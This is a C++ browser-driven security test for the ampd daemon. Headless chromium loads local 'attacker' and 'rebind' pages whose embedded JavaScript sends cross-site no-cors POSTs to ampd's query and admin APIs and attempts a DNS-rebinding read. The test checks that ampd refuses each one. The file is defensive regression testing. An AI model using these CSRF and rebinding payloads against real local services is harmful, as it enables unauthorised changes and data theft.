// A real browser attacks both APIs: headless chromium loads a page from another origin
// (http://attacker.test:<port>/, served by a scratch server) that
//   (a) POSTs text/plain cross-site with fetch(..., {mode: 'no-cors'}) to the query API and to
//       the admin API's /datasets with a valid registration body, and
//   (b) performs a real DNS-rebinding read: an iframe from http://rebind.test:<A>/ (A first held
//       by a scratch server) keeps POSTing "SELECT 42424242" to its own origin; once it runs,
//       the test closes the scratch listener and starts ampd with its query API on port A, so
//       the page's same-origin fetch reaches ampd, and the page reports what it could read.
// Both names resolve to 127.0.0.1 inside chromium (--host-resolver-rules). The pages report to
// a collector (a third scratch server). The test asserts that nothing happened (no dataset, the
// rebinding read saw 403 and not 42424242) and that ampd's log shows each refusal, which proves
// the requests reached ampd. Skipped, with the reason, where chromium is missing or cannot run.
#include "guarded_api.h"
#include "scratch_server.h"

#include <gtest/gtest.h>

#include <Poco/StreamCopier.h>

#include <chrono>
#include <condition_variable>
#include <csignal>
#include <filesystem>
#include <functional>
#include <mutex>
#include <string>
#include <vector>

namespace ampd::test {
namespace {

using namespace std::chrono_literals;

const std::filesystem::path kChromium = "/usr/bin/chromium";
const std::string kDatasetBody =
    R"({"namespace":"_","name":"eth","manifest":)"
    R"({"kind":"evm-rpc","network":"anvil","tables":{"blocks":{"schema":{"arrow":{"fields":[{"name":"block_num","type":"UInt64","nullable":false}]}},"network":"anvil"}}}})";

/// What the scratch servers saw, shared with the test thread.
class Observations {
 public:
  void update(const std::function<void(Observations&)>& change) {
    {
      std::lock_guard lock(_mutex);
      change(*this);
    }
    _changed.notify_all();
  }
  /// Waits until `ready()` holds (true) or `gaveUp()` does or the deadline passes (false).
  bool waitUntil(const std::function<bool(const Observations&)>& ready,
                 const std::function<bool()>& gaveUp, std::chrono::seconds timeout) {
    const auto deadline = std::chrono::steady_clock::now() + timeout;
    std::unique_lock lock(_mutex);
    while (!ready(*this)) {
      if (gaveUp() || std::chrono::steady_clock::now() >= deadline) return false;
      // Woken by every observation; the bounded wait only notices a dead chromium.
      _changed.wait_for(lock, 250ms);
    }
    return true;
  }
  std::string report(const std::string& kind) const {
    std::lock_guard lock(_mutex);
    for (const auto& r : reports)
      if (r.find("\"kind\":\"" + kind + "\"") != std::string::npos) return r;
    return {};
  }
  bool hasReport(const std::string& kind) const {
    for (const auto& r : reports)
      if (r.find("\"kind\":\"" + kind + "\"") != std::string::npos) return true;
    return false;
  }

  bool attackerPageServed = false;
  bool rebindPageRunning = false;  ///< the rebind page's first POST reached the scratch server
  std::string targets;             ///< JSON {"admin":port,"query":port} once ampd serves
  std::vector<std::string> reports;

 private:
  mutable std::mutex _mutex;
  std::condition_variable _changed;
};

std::string reportScript(int collectorPort) {
  return "const report = (o) => fetch('http://127.0.0.1:" + std::to_string(collectorPort) +
         "/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(o)});\n"
         "const pause = (ms) => new Promise((r) => setTimeout(r, ms));\n";
}

std::string attackerPage(int collectorPort, int rebindPort) {
  return "<!doctype html><title>attacker</title><script>\n" + reportScript(collectorPort) +
         "const datasetBody = " + "'" + kDatasetBody + "';\n" + R"(
async function attempt(url, body) {
  try {
    await fetch(url, {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body});
    return 'answered';
  } catch (e) {
    return 'error: ' + e;
  }
}
async function main() {
  let targets = null;
  while (!targets) {
    try {
      const r = await fetch('/targets');
      if (r.status === 200) targets = await r.json();
    } catch (e) {}
    if (!targets) await pause(100);
  }
  const query = await attempt('http://127.0.0.1:' + targets.query + '/', 'SELECT 42424242');
  const admin = await attempt('http://127.0.0.1:' + targets.admin + '/datasets', datasetBody);
  await report({kind: 'cross-site', query, admin});
}
main();
</script>
<iframe src="http://rebind.test:)" +
         std::to_string(rebindPort) + "/\"></iframe>\n";
}

std::string rebindPage(int collectorPort) {
  return "<!doctype html><title>rebind</title><script>\n" + reportScript(collectorPort) + R"(
async function main() {
  for (;;) {
    try {
      const r = await fetch('/', {method: 'POST', body: 'SELECT 42424242'});
      const text = await r.text();
      if (!text.includes('SCRATCH-SERVER')) {
        await report({kind: 'rebind', status: r.status, body: text});
        return;
      }
    } catch (e) {}
    await pause(100);
  }
}
main();
</script>
)";
}

std::string bodyOf(Poco::Net::HTTPServerRequest& request) {
  std::string body;
  Poco::StreamCopier::copyToString(request.stream(), body);
  return body;
}

TEST(BrowserAttack, CrossSitePostsAndDnsRebindingAreRefusedByBothApis) {
  if (!std::filesystem::exists(kChromium))
    GTEST_SKIP() << kChromium << " is missing; install Debian's chromium (scripts/setup does) "
                 << "to run the browser test";
  DaemonAmpDir dir;
  Observations seen;

  ScratchServer collector([&](auto& request, auto& response) {
    if (request.getMethod() == "POST" && request.getURI() == "/report") {
      const auto body = bodyOf(request);
      seen.update([&](Observations& o) { o.reports.push_back(body); });
    }
    sendText(response, 204, "text/plain", "");
  });
  std::optional<ScratchServer> rebind;
  rebind.emplace([&](auto& request, auto& response) {
    if (request.getMethod() == "POST") {
      seen.update([](Observations& o) { o.rebindPageRunning = true; });
      return sendText(response, 200, "text/plain", "SCRATCH-SERVER");
    }
    sendText(response, 200, "text/html", rebindPage(collector.port()));
  });
  const int rebindPort = rebind->port();
  ScratchServer attacker([&](auto& request, auto& response) {
    if (request.getURI() == "/targets") {
      std::string targets;
      seen.update([&](Observations& o) { targets = o.targets; });
      if (targets.empty()) return sendText(response, 404, "text/plain", "not yet");
      return sendText(response, 200, "application/json", targets);
    }
    seen.update([](Observations& o) { o.attackerPageServed = true; });
    sendText(response, 200, "text/html", attackerPage(collector.port(), rebindPort));
  });

  SpawnOptions browserOptions;
  browserOptions.cwd = dir.root();
  browserOptions.logFile = dir.root() / "chromium.log";
  browserOptions.args = {
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-quic",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
      "--disable-dev-shm-usage",
      "--user-data-dir=" + (dir.root() / "chromium-profile").string(),
      "--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.1",
      "http://attacker.test:" + std::to_string(attacker.port()) + "/"};
  ChildProcess chromium(kChromium, std::move(browserOptions));
  struct KillChromium {
    ChildProcess& process;
    ~KillChromium() {
      process.signal(SIGKILL);
      process.waitExit(30s);
    }
  } killChromium{chromium};
  const auto chromiumDied = [&] { return !chromium.running(); };

  if (!seen.waitUntil([](const Observations& o) { return o.rebindPageRunning; }, chromiumDied,
                      60s)) {
    if (!chromium.running())
      GTEST_SKIP() << "chromium could not run (it exited before loading the page):\n"
                   << chromium.output();
    FAIL() << "chromium did not run the rebind page within 60 s; its output:\n"
           << chromium.output();
  }

  // The rebinding: port A now belongs to ampd's query API.
  rebind->close();
  SpawnOptions ampdOptions;
  ampdOptions.args = {"solo"};
  ampdOptions.cwd = dir.root();
  ampdOptions.env = {{"AMP_CONFIG_ADMIN_API_ADDR", "127.0.0.1:0"},
                     {"AMP_CONFIG_JSONL_ADDR", "127.0.0.1:" + std::to_string(rebindPort)}};
  ChildProcess ampd = ChildProcess::ampd(std::move(ampdOptions));
  const auto adminPort = ampd.waitForOutput(R"(admin API listening on 127\.0\.0\.1:(\d+))", 90s);
  ASSERT_TRUE(adminPort) << ampd.output();
  ASSERT_TRUE(ampd.waitForOutput(
      R"(query API listening on 127\.0\.0\.1:)" + std::to_string(rebindPort), 30s))
      << ampd.output();
  seen.update([&](Observations& o) {
    o.targets = R"({"admin":)" + *adminPort + R"(,"query":)" + std::to_string(rebindPort) + "}";
  });

  const bool reported = seen.waitUntil(
      [](const Observations& o) { return o.hasReport("cross-site") && o.hasReport("rebind"); },
      chromiumDied, 60s);
  ASSERT_TRUE(reported) << "the pages did not report within 60 s (chromium "
                        << (chromium.running() ? "running" : "exited") << ")\nchromium:\n"
                        << chromium.output() << "\nampd:\n"
                        << ampd.output();

  // (a) the cross-site POSTs reached ampd and were refused; no dataset exists.
  const auto crossSite = seen.report("cross-site");
  EXPECT_NE(crossSite.find(R"("query":"answered")"), std::string::npos) << crossSite;
  EXPECT_NE(crossSite.find(R"("admin":"answered")"), std::string::npos) << crossSite;
  EXPECT_TRUE(ampd.waitForOutput(R"(query API: refused POST /: FORBIDDEN_ORIGIN)", 5s))
      << ampd.output();
  EXPECT_TRUE(ampd.waitForOutput(R"(admin API: refused POST /datasets: FORBIDDEN_ORIGIN)", 5s))
      << ampd.output();
  const auto dataset = sendRequest(std::stoi(*adminPort), "GET", "/datasets/_/eth/versions/dev");
  EXPECT_EQ(dataset.status, 404) << "the cross-site POST registered a dataset: " << dataset.body;

  // (b) the rebinding read reached ampd, which refused it: 403, and not the query's answer.
  const auto rebound = seen.report("rebind");
  EXPECT_NE(rebound.find(R"("status":403)"), std::string::npos) << rebound;
  EXPECT_NE(rebound.find("FORBIDDEN_HOST"), std::string::npos) << rebound;
  EXPECT_EQ(rebound.find("42424242"), std::string::npos) << rebound;
  EXPECT_TRUE(ampd.waitForOutput(R"(query API: refused POST /: FORBIDDEN_HOST)", 5s))
      << ampd.output();
}

}  // namespace
}  // namespace ampd::test
